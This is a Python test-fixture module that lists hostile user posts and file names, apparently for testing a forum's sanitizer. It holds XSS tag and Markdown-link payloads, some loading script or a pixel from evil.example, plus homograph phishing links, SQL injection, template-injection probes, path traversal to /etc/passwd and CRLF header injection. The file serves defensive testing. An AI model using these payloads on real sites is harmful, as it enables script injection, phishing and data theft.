"""Hostile posts: what the OWASP lists of cross-site scripting come to, look-alike links, floods of mentions, turned texts, broken Markdown.

Each is harmless where it is shown as words. The texts name no real site.
"""

from __future__ import annotations

from typing import Final

_ALERTS = ("alert(1)", "alert`1`", "document.title='xss'", "parent.xss=1")
_TAGS = (
    "<script>{}</script>", "<SCRIPT SRC=//evil.example/x.js>{}</SCRIPT>", "<scr<script>ipt>{}</scr</script>ipt>", "<script/x>{}</script>",
    "<img src=x onerror={}>", "<IMG SRC=javascript:{}>", '<img """><script>{}</script>">', "<img src=x:x onerror={}//",
    "<svg onload={}>", "<svg><script>{}</script></svg>", "<svg><animate onbegin={} attributeName=x dur=1s>", "<svg><a xlink:href=javascript:{}>x</a></svg>",
    "<body onload={}>", "<iframe src=javascript:{}></iframe>", "<iframe srcdoc='<script>{}</script>'></iframe>", "<object data=javascript:{}></object>",
    "<embed src=javascript:{}>", "<a href=javascript:{}>x</a>", "<a href=' javascript:{}'>x</a>", "<form action=javascript:{}><button>x</button></form>",
    "<button formaction=javascript:{}>x</button>", "<input autofocus onfocus={}>", "<select autofocus onfocus={}>", "<textarea autofocus onfocus={}>",
    "<video><source onerror={}></video>", "<audio src=x onerror={}>", "<details open ontoggle={}>", "<marquee onstart={}>x</marquee>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<link rel=stylesheet href=javascript:{}>", "<style>@import 'javascript:{}';</style>",
    "<div style='background:url(javascript:{})'>x</div>", "<base href=javascript:{}//>", "<math><mi xlink:href=javascript:{}>x</mi></math>",
    "<template><script>{}</script></template>", "<noscript><p title='</noscript><img src=x onerror={}>'>", "<!--<img src='--><img src=x onerror={}//'>",
    "<![CDATA[<script>{}</script>]]>", "<xss contenteditable onfocus={} autofocus tabindex=1>", "<p onmouseover={}>x</p>",
)  # fmt: skip
_LINKS = (
    "[x](javascript:{})", "[x](JaVaScRiPt:{})", "[x](javascript&#58;{})", "[x](&#x6A;avascript:{})", "[x](java\tscript:{})", "[x](vbscript:{})",
    "[x](data:text/html,<script>{}</script>)", "[x](data:text/html;base64,PHNjcmlwdD4=)", "<javascript:{}>", "[x]: javascript:{}\n\n[x]",
    "![x](javascript:{})", "![x](https://evil.example/pixel.gif?{})", "[x](\x01javascript:{})", "[x](https://evil.example\" onclick=\"{})",
    "[a](javascript://evil.example/%0A{})", "[x](file:///etc/passwd?{})", "[x](blob:{})", "[x](//evil.example/{})",
)  # fmt: skip
_OTHERS = (
    # look-alike and misleading links
    "https://рaypal.example/login", "[ministry.example](https://evil.example/)", "<https://xn--80ak6aa92e.example>", "[x](https://аррӏе.example)",
    "[https://good.example](https://evil.example)", "[x](https://good.example@evil.example/)", "[x](https://good.example%2F@evil.example/)",
    "[x](https://evil.example/\u202emoc.doog)", "[x](HTTPS://EVIL.EXAMPLE/%00)", "[x](https://127.0.0.1:8000/account/logout/)",
    "[x](https://[::1]/)", "[x](mailto:a@b.example?bcc=c@d.example)", "[x](tel:+1)", "[x](https://evil.example/(((()", "<https://evil.example/<script>>",
    # turned texts, floods, nests
    "\u202eevil\u202c", "\u2066\u2067\u2068x\u2069", "a" * 20_000, "Z" + "\u0301" * 500, "@S0123456789ABC " * 10, "> " * 400 + "x", "- " * 300 + "x",
    "[" * 500, "*" * 999, "`" * 501, "[x](" * 300, "|" * 400 + "\n" + "|-" * 400, "\\" * 600, "&" * 500 + "lt;", "&#0;&#x0;&#xD800;&#99999999;",
    "\u0000\u0001\u0008", "\ud800".encode("utf-16", "surrogatepass").decode("utf-16", "replace"), "\ufffe\uffff", "\U000e0041\U000e0042",
    # Markdown that would be more than words
    "# A heading of the page", "Heading\n=======", "```html\n<script>alert(1)</script>\n```", "```\" onmouseover=alert(1) x=\"\ncode\n```", "    <b>indented</b>",
    "<details><summary>x</summary>y</details>", "|a|b|\n|:-|-:|\n|<script>alert(1)</script>|[x](javascript:alert(1))|", "[^1]: note", "<!-- comment -->",
    "<?php echo 1 ?>", "{{ 7*7 }}{% debug %}", "${7*7}", "<%= 7*7 %>", "' OR 1=1 --", "\"; DROP TABLE community_post; --", "../../../../etc/passwd",
    "<x-y is=z onclick=alert(1)>", "&lt;script&gt;alert(1)&lt;/script&gt;", "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)",
    "<a href='https://good.example' hx-get='/account/logout/' hx-trigger='load'>x</a>", "<div hx-on:click='alert(1)'>x</div>", "<div data-draft='/x'>x</div>",
    "<dialog open data-closes>x</dialog>", "<meta name=htmx-config content='{\"allowEval\": true}'>", "<title>x</title>", "</div></main></body>",
    "</textarea><script>alert(1)</script>", "--></script><script>alert(1)</script>", "<plaintext>", "<frameset><frame src=javascript:alert(1)>",
)  # fmt: skip
TEXTS: Final[tuple[str, ...]] = tuple(
    dict.fromkeys(
        [
            *(tag.replace("{}", script) for tag in _TAGS for script in _ALERTS[:3]),
            *(link.replace("{}", script) for link in _LINKS for script in _ALERTS[:2]),
            *_OTHERS,
        ]
    )
)
NAMES: Final = (
    "../../../../etc/cron.d/x.jpg", "..\\..\\windows\\x.jpg", "a\x00.jpg", "<script>alert(1)</script>.jpg", '" onerror="alert(1).jpg', "x.jpg\r\nSet-Cookie: a=b",
    "CON.jpg", "a" * 400 + ".jpg", "\u202egpj.exe.jpg", ".jpg",
)  # fmt: skip
"""What a hostile file may be called."""
